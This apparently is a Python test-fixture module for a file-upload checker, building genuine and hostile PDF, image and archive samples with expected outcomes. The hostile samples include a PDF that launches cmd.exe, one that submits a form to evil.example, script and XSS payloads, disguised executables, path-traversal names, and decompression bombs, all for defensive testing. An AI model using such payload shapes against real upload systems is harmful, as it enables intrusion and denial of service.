"""Files of every sort that people and attackers send, each with what must become of it. All of it is made here."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from tests.uploads import files

ACCEPTED, NO_PREVIEW, REFUSED = "accepted", "kept without preview", "refused"
SCRIPT = "<</S/JavaScript/JS(app.alert(1))>>"
EICAR_LIKE = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$A-HARMLESS-TEST-FILE!$H+H*"


@dataclass(frozen=True)
class Sample:
    """becomes: every outcome that is right; genuine files have only one."""

    name: str
    content: bytes
    becomes: tuple[str, ...]


def genuine() -> Iterator[Sample]:
    """What honest people send, odd as some of it looks. Never refused."""
    for name, content in _genuine():
        yield Sample(name, content, (ACCEPTED,))


def _genuine() -> Iterator[tuple[str, bytes]]:
    yield "scan.pdf", files.pdf()
    yield "contract of twelve pages.pdf", files.pdf(pages=12)
    yield "UPPER.PDF", files.pdf()
    yield "old version.pdf", files.pdf(version="1.3")
    yield "white space first.pdf", files.pdf(before=b"\r\n \n")
    yield "byte order mark.pdf", files.pdf(before=b"\xef\xbb\xbf")
    yield "locked against changes.pdf", files.protected_pdf(user_password="", owner_password="y")
    yield "with a link.pdf", files.pdf(page="/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://a.example)>>>>]")
    yield "objects in a stream.pdf", files.pdf_with_objects_in_a_stream("")
    yield "photo.jpg", files.photo()
    yield "progressive.jpeg", files.photo(progressive=True)
    yield "turned.jpg", files.photo(exif=files.exif(orientation=6))
    yield "grey.jpg", files.grey_photo()
    yield "four colours.jpg", files.cmyk_photo()
    yield "phone trailer.jpg", files.photo() + b"\x00\xff\xda\x00" * 500
    yield "IMG_0042.HEIC", files.photo()
    yield "screenshot.png", files.photo("PNG")
    yield "palette.png", files.palette_png()
    yield "see-through.png", files.see_through_png()
    yield "phone.heic", files.heic()
    yield "جواز السفر.jpg", files.photo(colour=(20, 90, 160))
    yield "  ../../passport (1).jpg", files.photo(colour=(20, 91, 160))


def hostile() -> Iterator[Sample]:
    """Harmless here, but shaped to break, to mislead or to act."""
    yield from (Sample(name, content, (ACCEPTED, NO_PREVIEW)) for name, content in _acting())
    yield from (Sample(name, content, (REFUSED,)) for name, content in _liars())
    yield from (Sample(name, content, (ACCEPTED, NO_PREVIEW)) for name, content in _damaged())
    yield from (Sample(name, content, (ACCEPTED, NO_PREVIEW, REFUSED)) for name, content in _bombs())


def _acting() -> Iterator[tuple[str, bytes]]:
    yield "script on opening.pdf", files.pdf(catalog=f"/OpenAction{SCRIPT}")
    yield "script in a packed stream.pdf", files.pdf_with_objects_in_a_stream(f"/OpenAction{SCRIPT}")
    yield "starts a program.pdf", files.pdf(catalog="/OpenAction<</S/Launch/F(cmd.exe)>>")
    yield "sends a form.pdf", files.pdf(catalog="/OpenAction<</S/SubmitForm/F(https://evil.example)>>")
    embedded = "/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(a.exe)/EF<</F 100 0 R>>>>]>>>>"
    yield "holds a file.pdf", files.pdf(catalog=embedded, more=[files.stream(EICAR_LIKE)])
    yield "dynamic form.pdf", files.pdf(
        catalog="/AcroForm<</Fields[]/XFA 100 0 R>>", more=[files.stream(b"<xdp/>")])  # fmt: skip
    yield "archive behind.pdf", files.pdf(after=archive())
    yield "archive behind.jpg", files.photo() + archive()
    yield "pdf inside.jpg", files.photo(comment=files.pdf())
    yield "script in a comment.jpg", files.photo(comment=b"<script>alert(1)</script>")
    yield '"><img src=x onerror=alert(1)>.png', files.photo("PNG")
    yield "gateway line first.pdf", files.pdf(before=b"Received by gateway 7\r\n")


def _liars() -> Iterator[tuple[str, bytes]]:
    yield "page.pdf", b"<html><script>alert(1)</script></html>"
    yield "markup first.pdf", files.pdf(before=b"<html>\n")
    yield "program.pdf", b"MZ\x90\x00" + b"\x00" * 500
    yield "program first.pdf", files.pdf(before=b"MZ\x00\x01" + b"\x00" * 60)
    yield "archive.pdf", archive()
    yield "drawing.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    yield "postscript.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n"
    yield "moving.png", b"GIF89a" + b"\x00" * 50
    yield "picture.pdf", files.photo()
    yield "paper.jpg", files.pdf()
    yield "late header.pdf", files.pdf(before=b"A" * 1100)
    yield "photo\u202egpj.exe", files.photo()
    yield "letter.docx", archive()
    yield "nothing.pdf", b""
    yield "one byte.jpg", b"\xff"
    yield "needs a password.pdf", files.protected_pdf(user_password="x", owner_password="y")
    yield "a hundred and one pages.pdf", files.pdf(pages=101)
    yield "sixty thousand wide.png", files.png(60_000, 60_000)
    yield "says it is endless.png", files.png(2**31 - 1, 2**31 - 1)
    yield "says it is huge.jpg", files.jpeg_that_says(65_500, 65_500)
    yield "says it is huge.heic", files.heic_that_says(2**32 - 1, 2**32 - 1)
    yield "a thousand scans.jpg", files.jpeg_with_scans(150)
    yield "a storm of chunks.png", files.png(8, 8, extra=files.png_chunk(b"tEXt", b"a\0b") * 60_000)


def _damaged() -> Iterator[tuple[str, bytes]]:
    yield "half.pdf", files.pdf()[:400]
    yield "header alone.pdf", b"%PDF-1.7\n"
    yield "no table.pdf", files.pdf().replace(b"xref", b"xxxx")
    yield "half.jpg", files.photo()[:-3000]
    yield "half.heic", files.heic()[:-200]
    yield "nonsense.jpg", b"\xff\xd8\xff\xe0" + bytes(range(256)) * 40
    yield "nonsense.png", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40


def _bombs() -> Iterator[tuple[str, bytes]]:
    yield "packed a thousandfold.pdf", files.pdf(
        catalog="/OpenAction 100 0 R",
        more=[files.stream(zlib.compress(b"\0" * 100_000_000, 9), "/Filter/FlateDecode")])  # fmt: skip
    yield "its own parent.pdf", files.with_xref(
        {1: "<</Type/Catalog/Pages 2 0 R>>", 2: "<</Type/Pages/Kids[2 0 R]/Count 1>>"})  # fmt: skip
    yield "its own length.pdf", files.pdf(more=["<</Length 100 0 R>>stream\nx\nendstream"])
    yield "circle of tables.pdf", files.with_xref(
        {1: "<</Type/Catalog/Pages 2 0 R>>", 2: "<</Kids[]/Count 0>>"}, trailer="/Prev 9")  # fmt: skip
    yield "endless page.pdf", files.pdf(box="0 0 1000000000 1000000000")
    yield "nested.pdf", files.pdf(catalog="/OpenAction 100 0 R", more=["[" * 60_000 + "]" * 60_000])
    yield "ninety thousand pages.pdf", files.pdf().replace(
        b"/Kids[10 0 R]/Count 1", b"/Kids[" + b"10 0 R " * 90_000 + b"]/Count 90000")  # fmt: skip
    bomb = zlib.compress(b"a" * 50_000_000)
    yield "packed text.png", files.png(8, 8, extra=files.png_chunk(b"zTXt", b"a\0\0" + bomb))
    yield "second picture.jpg", files.photo() + files.jpeg_that_says(65_500, 65_500)
    yield "line ends.jpg", files.photo() + b"\r\n" * 1_000_000


def archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("run.exe", b"MZ")
    return out.getvalue()
